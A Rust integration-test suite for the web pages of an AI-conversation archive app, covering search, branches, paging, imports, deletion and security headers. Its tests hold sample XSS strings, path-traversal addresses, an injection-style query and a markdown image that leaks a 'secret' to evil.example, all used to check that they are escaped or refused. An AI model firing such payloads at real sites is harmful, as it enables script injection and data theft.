//! Every page over the known archive: that it is whole, escaped, and says what it should.

use std::time::Duration;

use axum::{
    body::Body,
    http::{Request, StatusCode},
};

use crate::house::{House, between, say, text};
use athenaeum_core::{Conversation, Provider, Role};

#[tokio::test]
async fn home_shows_counts_shelf_and_latest() {
    let house = House::furnished().await;
    let page = house.page("/").await;
    assert!(page.contains("<strong>3</strong> conversations"), "{page}");
    assert!(page.contains("ChatGPT: 1 conversation"));
    assert!(page.contains("Sourdough that rises"));
}

#[tokio::test]
async fn an_empty_archive_leads_to_import() {
    let house = House::empty().await;
    assert!(house.page("/").await.contains("href=\"/import\">Bring in your conversations"));
    for address in
        ["/search", "/search?q=x", "/conversations", "/stats", "/topics", "/imports", "/help", "/import"]
    {
        house.page(address).await;
    }
}

#[tokio::test]
async fn search_finds_marks_and_groups() {
    let house = House::furnished().await;
    let page = house.page("/search?q=sourdough").await;
    assert!(page.contains("<mark>sourdough</mark>") || page.contains("<mark>Sourdough</mark>"), "{page}");
    assert!(page.contains("value=\"sourdough\""));
    let fragment = house.page("/search/results?q=sourdough").await;
    assert!(!fragment.contains("<html") && fragment.contains("group-of-hits"));
    assert!(house.page("/search?q=nothingatall").await.contains("No page holds these words"));
    // Filters stay: as chips, as hidden fields, in links.
    let page = house.page("/search?q=rye&role=assistant").await;
    assert!(page.contains("name=\"role\" value=\"assistant\""));
    assert!(page.contains("Filters in force"));
}

#[tokio::test]
async fn a_hit_opens_in_place_without_script() {
    let house = House::furnished().await;
    let page = house.page("/search?q=ferments").await;
    let open = between(&page, "<div class=\"row\">", "</div>");
    let href = between(open, "<a href=\"", "\"").replace("&#38;", "&").replace("&amp;", "&");
    let (address, _) = href.split_once('#').unwrap();
    let opened = house.page(address).await;
    assert!(
        opened.contains("<div class=\"in-place prose\"><p>Rye <mark>ferments</mark> faster.</p>"),
        "{opened}"
    );
    let fragment = between(open, "data-open=\"", "\"").replace("&#38;", "&");
    assert_eq!(house.page(&fragment).await.trim(), "<p>Rye <mark>ferments</mark> faster.</p>");
}

/// No text of whoever searches gives an error (A37).
#[tokio::test]
async fn any_query_is_answered() {
    let house = House::furnished().await;
    for query in [
        "%22",
        "-",
        "*",
        "AND",
        "(",
        "%00",
        "%FF%FE",
        "a%20OR",
        "NEAR(",
        "'%3B%20DROP",
        "%F0%9F%8D%9E",
        "&after=x&cursor=%22",
    ] {
        let (status, text) = house.get(&format!("/search?q={query}")).await;
        let expected = if query.contains("cursor") { StatusCode::NOT_FOUND } else { StatusCode::OK };
        assert_eq!(status, expected, "{query}: {text}");
    }
}

async fn conversation_of(house: &House, title: &str) -> String {
    let page = house.page("/conversations").await;
    let entry = page.split("<li class=\"entry\">").find(|entry| entry.contains(title)).unwrap();
    between(entry, "href=\"", "\"").to_owned()
}

#[tokio::test]
async fn a_conversation_reads_as_it_was_held() {
    let house = House::furnished().await;
    let address = conversation_of(&house, "Sourdough").await;
    let page = house.page(&address).await;
    for part in [
        "<h1>Sourdough that rises</h1>",
        "id=\"m1\"",
        "<strong>eight hours</strong>",
        "<span class=\"hc\"># hours</span>",
        "<strong>Thought</strong>",
        "Called web_search",
        "gpt-4o-mini",
        "Show 1 hidden message",
        "Temperature 0.7",
        "Answer <em>briefly</em>.",
        "/export?format=md",
        "1 / 2",
    ] {
        assert!(page.contains(part), "{part} in {page}");
    }
    assert!(!page.contains("The user bakes.") && !page.contains("warm kitchen"));
    assert!(house.page(&format!("{address}?hidden=1")).await.contains("The user bakes."));
    // Words of a search are marked, and the way back leads to it.
    let page = house.page(&format!("{address}?q=rye")).await;
    assert!(page.contains("with <mark>rye</mark>?") && page.contains("href=\"/search?q=rye\" data-back"));
}

#[tokio::test]
async fn branches_are_switched_by_links() {
    let house = House::furnished().await;
    let address = conversation_of(&house, "Sourdough").await;
    let page = house.page(&address).await;
    assert!(
        page.contains(&format!("<a href=\"{address}?branch=5#m5\" aria-label=\"Version after\"")),
        "{page}"
    );
    let other = house.page(&format!("{address}?branch=5")).await;
    assert!(other.contains("warm kitchen") && other.contains("My kitchen is cold."));
    assert!(other.contains("How long does") && !other.contains("eight hours"));
    assert!(other.contains("2 / 2") && other.contains("another branch"));
    for odd in [
        "branch=99",
        "branch=-1",
        "branch=x",
        "at=4294967295",
        "page=0",
        "page=99999999999999999999",
        "page=7",
    ] {
        house.page(&format!("{address}?{odd}")).await;
    }
}

#[tokio::test]
async fn a_message_has_a_lasting_address() {
    let house = House::furnished().await;
    let page = house.page("/search?q=warm").await;
    let id = between(&page, "id=\"hit-", "\"");
    let request = Request::get(format!("/messages/{id}?q=a%20b")).body(Body::empty()).unwrap();
    let response = house.send(request).await;
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
    let location = response.headers()["location"].to_str().unwrap().to_owned();
    assert!(location.ends_with("?q=a%20b&at=5#m5"), "{location}");
    // It leads into the branch that the message stands in.
    assert!(house.page(location.split('#').next().unwrap()).await.contains("warm kitchen"));
    assert_eq!(house.get("/messages/999999").await.0, StatusCode::NOT_FOUND);
    assert_eq!(house.get("/messages/x").await.0, StatusCode::NOT_FOUND);
}

/// The same corpus of tricks in every field that a page shows: nothing becomes markup anywhere.
#[tokio::test]
async fn no_field_becomes_markup() {
    let house = House::furnished().await;
    let address = conversation_of(&house, "alert(&#39;title").await;
    let mut pages = vec![
        "/".to_owned(),
        "/conversations".into(),
        "/search?q=hostile".into(),
        "/stats".into(),
        "/topics?in=%22%3E%3Cscript%3E".into(),
        "/imports".into(),
    ];
    pages.push(format!("{address}?q=%3Cscript%3Ealert"));
    pages.push(format!("{address}/delete"));
    pages.push("/search?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E&provider=%22%3E%3Cscript%3E&model=%3Cscript%3E&after=%3Cscript%3E&open=%3Cscript%3E".into());
    pages.push("/conversations?provider=%3Cscript%3E&cursor=".into());
    for address in pages {
        let page = house.page(&address).await;
        let scripts = page.matches("<script").count();
        assert_eq!(scripts, page.matches("<script src=\"/assets/").count(), "{address}: {page}");
        for part in [
            "<img",
            "<svg on",
            "<b>model",
            "<i>author",
            "onerror=alert(1)>",
            "href=\"javascript",
            "\" onload=\"x",
            " style=",
        ] {
            assert!(!page.contains(part), "{part} in {address}: {page}");
        }
    }
}

#[tokio::test]
async fn every_answer_forbids_what_is_not_ours() {
    let house = House::furnished().await;
    for address in ["/", "/search?q=x", "/nowhere", "/assets/none.css", "/imports/x/events"] {
        let response = house.send(Request::get(address).body(Body::empty()).unwrap()).await;
        let policy = response.headers()["content-security-policy"].to_str().unwrap();
        assert!(policy.starts_with("default-src 'none'; script-src 'self'; style-src 'self';"), "{policy}");
        assert!(!policy.contains("unsafe") && policy.contains("frame-ancestors 'none'"));
        assert_eq!(response.headers()["x-content-type-options"], "nosniff");
    }
    let page = house.page("/").await;
    assert!(!page.contains("http://") && !page.contains("https://"), "a page names a foreign resource");
}

#[tokio::test]
async fn assets_are_kept_for_good_under_their_hash() {
    let house = House::empty().await;
    let page = house.page("/").await;
    for (before, media_type) in [
        ("rel=\"stylesheet\" href=\"", "text/css"),
        ("<script src=\"", "text/javascript"),
        ("image/svg+xml\" href=\"", "image/svg+xml"),
    ] {
        let address = between(&page, before, "\"");
        let response = house.send(Request::get(address).body(Body::empty()).unwrap()).await;
        assert!(response.headers()["content-type"].to_str().unwrap().starts_with(media_type));
        assert!(response.headers()["cache-control"].to_str().unwrap().contains("immutable"));
        let tag = response.headers()["etag"].clone();
        let again = Request::get(address).header("if-none-match", tag).body(Body::empty()).unwrap();
        assert_eq!(house.send(again).await.status(), StatusCode::NOT_MODIFIED);
    }
    assert_eq!(house.get("/assets/..%2fCargo.toml").await.0, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn deleting_asks_first_and_heeds_only_our_own_form() {
    let house = House::furnished().await;
    let address = conversation_of(&house, "Sourdough").await;
    let asked = house.page(&format!("{address}/delete")).await;
    assert!(asked.contains("Delete this conversation?"));
    let token = between(&asked, "name=\"token\" value=\"", "\"").to_owned();
    let post = |body: String, site: &'static str| {
        Request::post(format!("{address}/delete"))
            .header("host", "127.0.0.1")
            .header("content-type", "application/x-www-form-urlencoded")
            .header("sec-fetch-site", site)
            .body(Body::from(body))
            .unwrap()
    };
    for request in [
        post("token=".into(), "same-origin"),
        post(String::new(), "none"),
        post(format!("token={token}"), "cross-site"),
    ] {
        assert_eq!(house.send(request).await.status(), StatusCode::FORBIDDEN);
    }
    house.page(&address).await;
    let done = house.send(post(format!("token={token}"), "same-origin")).await;
    assert_eq!(done.status(), StatusCode::SEE_OTHER);
    let (status, page) = house.get(&address).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert!(page.contains("Not on the shelves"));
    assert!(house.page("/conversations?deleted=1").await.contains("was deleted"));
}

#[tokio::test]
async fn long_conversations_come_in_parts() {
    let house = House::empty().await;
    let mut long = Conversation::new(Provider::CLAUDE, "long");
    long.title = Some("Long".into());
    for i in 0..1_000 {
        long.messages
            .push(say(if i % 2 == 0 { Role::User } else { Role::Assistant }, &format!("message number {i}")));
    }
    house.add(vec![long]).await;
    let address = conversation_of(&house, "Long").await;
    let first = house.page(&address).await;
    assert_eq!(first.matches("<article").count(), 50);
    assert!(first.contains(">51–100</a>"), "{first}");
    assert!(first.contains("<p>message number 0</p>") && !first.contains("<p>message number 50</p>"));
    let there = house.page(&format!("{address}?at=777")).await;
    assert!(there.contains("id=\"m777\"") && !there.contains("id=\"m700\""));
    // The outline leads into other parts.
    assert!(first.contains(&format!("href=\"{address}?page=2#m50\"")), "{first}");
}

/// As in the log of a coding agent: few messages, and tools that answer in megabytes.
#[tokio::test]
async fn heavy_conversations_come_in_parts_as_well() {
    let house = House::empty().await;
    let mut heavy = Conversation::new(Provider::CLAUDE, "heavy");
    heavy.title = Some("Heavy".into());
    for i in 0..12 {
        heavy.messages.push(say(Role::Tool, &format!("answer {i} {}", "of many words ".repeat(20_000))));
    }
    house.add(vec![heavy]).await;
    let address = conversation_of(&house, "Heavy").await;
    let mut seen = 0;
    for page in 1..=4 {
        let page = house.page(&format!("{address}?page={page}")).await;
        assert!(page.len() < 2 << 20, "{}", page.len());
        seen += page.matches("<article").count();
    }
    assert_eq!(seen, 12);
    let there = house.page(&format!("{address}?at=11")).await;
    assert!(there.contains("id=\"m11\"") && there.contains("10–12</"));
}

#[tokio::test]
async fn ten_thousand_messages_open_anywhere() {
    let house = House::empty().await;
    let mut long = Conversation::new(Provider::CLAUDE, "long");
    long.title = Some("Long".into());
    let speaker = |i| if i % 2 == 0 { Role::User } else { Role::Assistant };
    long.messages = (0..10_000).map(|i| say(speaker(i), &format!("message number {i}"))).collect();
    house.add(vec![long]).await;
    let address = conversation_of(&house, "Long").await;
    for at in [0, 4_999, 9_999] {
        let page = house.page(&format!("{address}?at={at}")).await;
        assert!(
            page.contains(&format!("<p>message number {at}</p>")) && page.len() < 200_000,
            "{}",
            page.len()
        );
    }
}

#[tokio::test]
async fn statistics_have_a_table_behind_each_picture() {
    let house = House::furnished().await;
    let page = house.page("/stats").await;
    for part in [
        "class=\"calendar\"",
        "class=\"columns\"",
        "<th scope=\"row\"><a href=\"/search?model=gpt-4o-mini\">",
        "May 2024",
        "aria-hidden=\"true\"",
    ] {
        assert!(page.contains(part), "{part} in {page}");
    }
}

#[tokio::test]
async fn what_is_not_there_says_so() {
    let house = House::empty().await;
    for address in [
        "/nowhere",
        "/conversations/x",
        "/conversations/01890000-0000-7000-8000-000000000000",
        "/imports/x",
        "/imports/01890000-0000-7000-8000-000000000000",
        "/conversations/..%2f..%2fetc/delete",
    ] {
        let (status, page) = house.get(address).await;
        assert_eq!(status, StatusCode::NOT_FOUND, "{address}");
        assert!(page.contains("Not on the shelves"), "{address}");
    }
}

#[tokio::test]
async fn programs_that_ask_for_nothing_get_no_page() {
    let house = House::empty().await;
    let request = Request::get("/nowhere").header("accept", "application/json").body(Body::empty()).unwrap();
    assert_eq!(text(house.send(request).await).await, (StatusCode::NOT_FOUND, String::new()));
    assert_eq!(house.get("/athenaeum/v1/nothing").await, (StatusCode::NOT_FOUND, String::new()));
}

fn upload(token: &str, files: &[(&str, &str)]) -> Request<Body> {
    let mut body = format!("--x\r\ncontent-disposition: form-data; name=\"token\"\r\n\r\n{token}\r\n");
    for (name, content) in files {
        body.push_str(&format!("--x\r\ncontent-disposition: form-data; name=\"file\"; filename=\"{name}\"\r\ncontent-type: application/json\r\n\r\n{content}\r\n"));
    }
    body.push_str("--x--\r\n");
    Request::post("/import")
        .header("host", "127.0.0.1")
        .header("content-type", "multipart/form-data; boundary=x")
        .body(Body::from(body))
        .unwrap()
}

const EXPORT: &str = r#"[{"id":"c1","conversation_id":"c1","title":"A walk","create_time":1704164645.5,"update_time":1704164650.5,"current_node":"b","mapping":{"a":{"id":"a","message":null,"parent":null,"children":["b"]},"b":{"id":"b","parent":"a","children":[],"message":{"id":"b","author":{"role":"user"},"create_time":1704164645.5,"content":{"content_type":"text","parts":["Where does the heron nest?"]},"status":"finished_successfully","weight":1.0,"metadata":{},"recipient":"all"}}}}]"#;

#[tokio::test]
async fn an_upload_becomes_an_import_with_events_and_a_record() {
    let house = House::empty().await;
    let page = house.page("/import").await;
    let token = between(&page, "name=\"token\" value=\"", "\"").to_owned();
    let response = house.send(upload(&token, &[("../../conversations.json", EXPORT)])).await;
    assert_eq!(response.status(), StatusCode::SEE_OTHER, "{:?}", text(response).await);
    let address = response.headers()["location"].to_str().unwrap().to_owned();
    let (status, events) = house.get(&format!("{address}/events")).await;
    assert_eq!(status, StatusCode::OK);
    assert!(events.ends_with("event: done\ndata: {}\n\n"), "{events}");
    let run = house.page(&address).await;
    assert!(run.contains("conversations.json") && run.contains("badge good"), "{run}");
    assert!(run.contains("<b data-field=\"conversations\">1</b>"), "{run}");
    assert!(house.page("/imports").await.contains("1 conversation: 1 new"));
    assert!(house.page("/search?q=heron").await.contains("A walk"));
}

#[tokio::test]
async fn an_upload_waits_for_its_turn_on_a_page_of_its_own() {
    let house = House::empty().await;
    let page = house.page("/import").await;
    let token = between(&page, "name=\"token\" value=\"", "\"").to_owned();
    let mut writing =
        house.archive.begin_import(&athenaeum_tenancy::local(), "elsewhere", None).await.unwrap();
    writing.add(Conversation::new(Provider::CLAUDE, "elsewhere")).await.unwrap();
    let sent = house.send(upload(&token, &[("conversations.json", EXPORT)]));
    let response =
        tokio::time::timeout(Duration::from_secs(20), sent).await.expect("it waits for the writer");
    let address = response.headers()["location"].to_str().unwrap().to_owned();
    let run = house.page(&address).await;
    assert!(run.contains("Waiting for another import") && run.contains("conversations.json"), "{run}");
    writing.finish("{}").await.unwrap();
    house.page(&format!("{address}/events")).await;
    assert!(house.page(&address).await.contains("badge good"));
}

#[tokio::test]
async fn uploads_that_cannot_be_taken_say_why() {
    let house = House::empty().await;
    let page = house.page("/import").await;
    let token = between(&page, "name=\"token\" value=\"", "\"").to_owned();
    let (status, page) = text(house.send(upload("wrong", &[("a.json", EXPORT)])).await).await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{page}");
    let (status, page) = text(house.send(upload(&token, &[])).await).await;
    assert!(status == StatusCode::BAD_REQUEST && page.contains("No file arrived"), "{page}");
    let response = house.send(upload(&token, &[("a.json", "{\"no\": \"chat\"}"), ("b.json", "[]")])).await;
    let address = response.headers()["location"].to_str().unwrap().to_owned();
    house.page(&format!("{address}/events")).await;
    let run = house.page(&address).await;
    assert!(run.contains("It ended early.") && run.contains("a.json and 1 more"), "{run}");
}

#[tokio::test]
async fn pages_that_follow_an_import_are_counted() {
    let house = House::empty().await;
    let page = house.page("/import").await;
    let token = between(&page, "name=\"token\" value=\"", "\"").to_owned();
    let response = house.send(upload(&token, &[("conversations.json", EXPORT)])).await;
    let events = format!("{}/events", response.headers()["location"].to_str().unwrap());
    let follow = async || {
        let request = Request::get(&events).header("host", "127.0.0.1").body(Body::empty()).unwrap();
        house.send(request).await
    };
    let mut open = Vec::new();
    for _ in 0..athenaeum_web::Settings::default().streams_max {
        open.push(follow().await);
    }
    assert!(open.iter().all(|response| response.status() == StatusCode::OK));
    assert_eq!(follow().await.status(), StatusCode::SERVICE_UNAVAILABLE);
    open.pop();
    assert_eq!(follow().await.status(), StatusCode::OK, "a page that was closed leaves its place");
}

fn said(role: &str, text: &str) -> serde_json::Value {
    serde_json::json!({"role": role, "text": text})
}

fn chat(address: &str, body: &serde_json::Value) -> Request<Body> {
    Request::post(address)
        .header("host", "127.0.0.1")
        .header("content-type", "application/json")
        .body(Body::from(body.to_string()))
        .unwrap()
}

#[tokio::test]
async fn what_is_said_on_the_chat_page_is_kept() {
    let house = House::empty().await;
    let page = house.page("/chat").await;
    assert!(page.contains("athenaeum chat"), "without script the page says what to do: {page}");
    let token = between(&page, "data-token=\"", "\"").to_owned();
    let keep = |path: serde_json::Value| {
        let told = serde_json::json!({"token": token, "conversation": "conversation-1", "path": path});
        house.send(chat("/chat/keep", &told))
    };
    let question =
        serde_json::json!({"id": "question-1", "said": said("user", "Where does the bittern nest?")});
    let answer = serde_json::json!({"id": "answer-1", "said": said("assistant", "In the *reeds*.")});
    let (status, kept) = text(keep(serde_json::json!([question, answer])).await).await;
    assert_eq!(status, StatusCode::OK, "{kept}");
    let kept: serde_json::Value = serde_json::from_str(&kept).unwrap();
    let address = kept["chat"].as_str().unwrap().to_owned();
    assert!(house.page("/search?q=bittern").await.contains("Where does the"));
    assert!(
        house.page("/chat").await.contains(&format!("href=\"{address}\"")),
        "it is offered to go on with"
    );
    // The answer given anew is another branch, on either page.
    let anew = serde_json::json!({"id": "answer-2", "said": said("assistant", "Among the sedge.")});
    assert_eq!(keep(serde_json::json!([{"id": "question-1"}, anew])).await.status(), StatusCode::OK);
    let read = house.page(kept["conversation"].as_str().unwrap()).await;
    assert!(read.contains("2 / 2") && read.contains("Among the sedge.") && !read.contains("reeds"), "{read}");
    let turns: serde_json::Value =
        serde_json::from_str(&house.page(&format!("{address}/turns")).await).unwrap();
    assert_eq!(turns["path"], serde_json::json!(["question-1", "answer-2"]));
    assert_eq!(turns["turns"][1]["html"], "<p>In the <em>reeds</em>.</p>\n");
    // What is gone is not brought back by half.
    let gone = serde_json::json!([{"id": "question-9"}, {"id": "answer-9"}]);
    assert_eq!(keep(gone).await.status(), StatusCode::CONFLICT);
    let foreign = serde_json::json!({"token": "x", "conversation": "conversation-1", "path": []});
    assert_eq!(house.send(chat("/chat/keep", &foreign)).await.status(), StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn a_conversation_from_elsewhere_can_be_gone_on_with() {
    let house = House::furnished().await;
    let address = conversation_of(&house, "Sourdough").await;
    let chat = address.replace("/conversations/", "/chat/");
    assert!(house.page(&address).await.contains(&format!("href=\"{chat}\"")));
    assert!(house.page(&chat).await.contains("Sourdough that rises"));
    let turns: serde_json::Value = serde_json::from_str(&house.page(&format!("{chat}/turns")).await).unwrap();
    assert_eq!(
        turns["conversation"],
        serde_json::Value::Null,
        "it becomes a conversation of its own: {turns}"
    );
    assert_eq!((&turns["turns"][0]["hidden"], &turns["turns"][1]["hidden"]), (&true.into(), &false.into()));
    assert_eq!(turns["turns"][2]["reasoning"], "Temperature matters.");
    for nowhere in ["/chat/x", "/chat/01890000-0000-7000-8000-000000000000", "/chat/x/turns"] {
        assert_eq!(house.get(nowhere).await.0, StatusCode::NOT_FOUND, "{nowhere}");
    }
}

#[tokio::test]
async fn what_a_model_wrote_is_shown_by_our_own_writer() {
    let house = House::empty().await;
    let mut hostile = said(
        "assistant",
        "<script>alert(1)</script> ![x](https://evil.example/?q=secret) [y](javascript:alert(1))",
    );
    hostile["reasoning"] = "<img src=x onerror=alert(1)>".into();
    hostile["files"] =
        serde_json::json!([{"name": "</summary><script>", "text": "</pre><script>alert(2)</script>"}]);
    let (status, html) = text(house.send(chat("/chat/render", &hostile)).await).await;
    assert_eq!(status, StatusCode::OK);
    for part in ["<script", "<img", "href=\"javascript"] {
        assert!(!html.contains(part), "{part} in {html}");
    }
    assert!(html.contains("Thought") && html.contains("evil.example"), "{html}");
    for wrong in [said("tool", "x"), said("system", "x")] {
        assert_eq!(house.send(chat("/chat/render", &wrong)).await.status(), StatusCode::NOT_FOUND);
    }
    let unknown = serde_json::json!({"role": "user", "text": "x", "html": "<b>"});
    assert_eq!(house.send(chat("/chat/render", &unknown)).await.status(), StatusCode::UNPROCESSABLE_ENTITY);
}

/// The page to sign in on is open to everybody, so it must hold nothing that is not for everybody.
#[tokio::test]
async fn the_page_to_sign_in_on_gives_nothing_away() {
    let house = House::furnished().await;
    let (status, _) = house.get("/sign-in").await;
    assert_eq!(status, 303, "there is nothing to sign in to");
    house.keys.require();
    let (status, page) = house.get("/sign-in?next=/search%3Fq%3D%22%3E%3Cscript%3E&wrong=1").await;
    assert_eq!(status, 200);
    assert!(page.contains("role=\"alert\"") && page.contains("type=\"password\""), "{page}");
    assert!(
        !page.contains("<script>") && !page.contains("name=\"token\"") && !page.contains("Sign out"),
        "{page}"
    );
    let (status, _) = house.get("/sign-out").await;
    assert_eq!(status, 303, "nobody is signed in");
    let (_, page) = house.get("/").await;
    assert!(!page.contains("Sign out"), "{page}");
}

#[tokio::test]
async fn the_models_page_is_a_frame_that_says_what_to_do_without_script() {
    let house = House::empty().await;
    let page = house.page("/shelf").await;
    for part in
        ["athenaeum models pull", "id=\"list\"", "<label for=\"source\">", "aria-current=\"page\">Models</a>"]
    {
        assert!(page.contains(part), "{part} in {page}");
    }
    let script = page.split("<script src=\"").map(|part| part.split('"').next().unwrap());
    let script = script.filter(|address| address.starts_with("/assets/models-")).last().unwrap().to_owned();
    let (status, text) = house.get(&script).await;
    // What the API tells becomes text, never markup.
    assert!(status == StatusCode::OK && !text.contains("innerHTML") && !text.contains("insertAdjacentHTML"));
}
